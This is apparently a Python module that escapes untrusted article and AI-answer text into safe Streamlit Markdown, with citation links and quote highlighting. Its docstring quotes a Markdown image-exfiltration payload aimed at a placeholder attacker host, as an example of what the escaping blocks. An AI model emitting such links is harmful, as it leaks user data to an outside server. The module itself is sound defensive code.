"""Turning answers and articles into Markdown that shows them as text, whatever they contain.

Article and model text is untrusted: an article may carry `![x](http://attacker/?q=…)`, HTML, or
Streamlit's own directives (`:red[…]`, `$…$`). Every ASCII punctuation character is backslash-escaped
(CommonMark lets any of them be), so none of it can become markup, an image, a link or LaTeX; the only
Markdown in the output is what this module adds: citation links and the highlight.
"""

from __future__ import annotations

import re
import string
import unicodedata
from dataclasses import dataclass

_ESCAPE = str.maketrans({ch: "\\" + ch for ch in string.punctuation})
# Bare URLs, www. names and e-mail addresses are turned into links by the renderer whatever their
# escaping; an invisible word joiner after "://", "www" and "@" keeps them plain text.
_LINKISH = re.compile(r"(?i)(://|\bwww(?=\.)|@)")
_JOINER = "\u2060"
_MARKER = re.compile(r"\[(\d+)\]")
CONTEXT_CHARS = 350  # shown either side of a quote when its paragraph is longer


def terminal_safe(text: str) -> str:
    """Text without control characters other than newline, tab and carriage return (progress bars)."""
    if text.isprintable() or all(ch.isprintable() or ch in "\n\t\r" for ch in text):
        return text
    return "".join(ch for ch in text if ch.isprintable() or ch in "\n\t\r" or unicodedata.category(ch) in ("Zs", "Zl", "Zp"))


def one_line(name: str) -> str:
    """A file name or title as one line of output: a newline in a name must not start a line of its own."""
    return name.translate({10: "\\n", 13: "\\r", 9: "\\t"})


def escape_markdown(text: str, *, inline: bool = False) -> str:
    """The text as Markdown that renders to exactly this text (line breaks kept). A block also loses
    indentation at line starts, which Markdown would read as a code block; `inline` pieces keep it."""
    if not inline:
        text = re.sub(r"(^|\n)[ \t]+", r"\1", text)
    text = _LINKISH.sub(lambda m: m.group(1)[:-1] + _JOINER + m.group(1)[-1:] if m.group(1) == "://"
                        else m.group(1) + _JOINER, text)
    return text.translate(_ESCAPE).replace("\n", "  \n")


def anchor_id(message_index: int, citation_id: int) -> str:
    return f"source-{message_index}-{citation_id}"


def answer_markdown(answer: str, citation_ids: set[int], message_index: int) -> str:
    """The answer as safe Markdown whose [n] markers link to source entry n below it."""
    parts, last = [], 0
    for match in _MARKER.finditer(answer):
        parts.append(escape_markdown(answer[last:match.start()], inline=True))
        number = int(match.group(1))
        parts.append(f"[\\[{number}\\]](#{anchor_id(message_index, number)})" if number in citation_ids
                     else escape_markdown(match.group(), inline=True))
        last = match.end()
    parts.append(escape_markdown(answer[last:], inline=True))
    return "".join(parts)


@dataclass(frozen=True)
class QuoteInContext:
    before: str
    quote: str
    after: str

    def markdown(self) -> str:
        """The paragraph with the quote highlighted; everything escaped."""
        before, quote, after = (escape_markdown(t, inline=True) for t in (self.before, self.quote, self.after))
        return f"{before}:orange-background[{quote}]{after}"


def quote_in_context(text: str, start: int, end: int, quote: str) -> QuoteInContext | None:
    """The cited sentence inside its paragraph, by the stored offsets. None (no highlight) unless the
    text at those offsets is exactly the quote: a wrong highlight is worse than none."""
    if not (0 <= start < end <= len(text)) or text[start:end] != quote:
        return None
    para_start = text.rfind("\n", 0, start) + 1
    para_end = text.find("\n", end)
    para_end = len(text) if para_end < 0 else para_end
    before, after = text[para_start:start], text[end:para_end]
    if len(before) > CONTEXT_CHARS:
        before = "…" + before[-CONTEXT_CHARS:].split(" ", 1)[-1]
    if len(after) > CONTEXT_CHARS:
        after = after[:CONTEXT_CHARS].rsplit(" ", 1)[0] + "…"
    return QuoteInContext(before, quote, after)
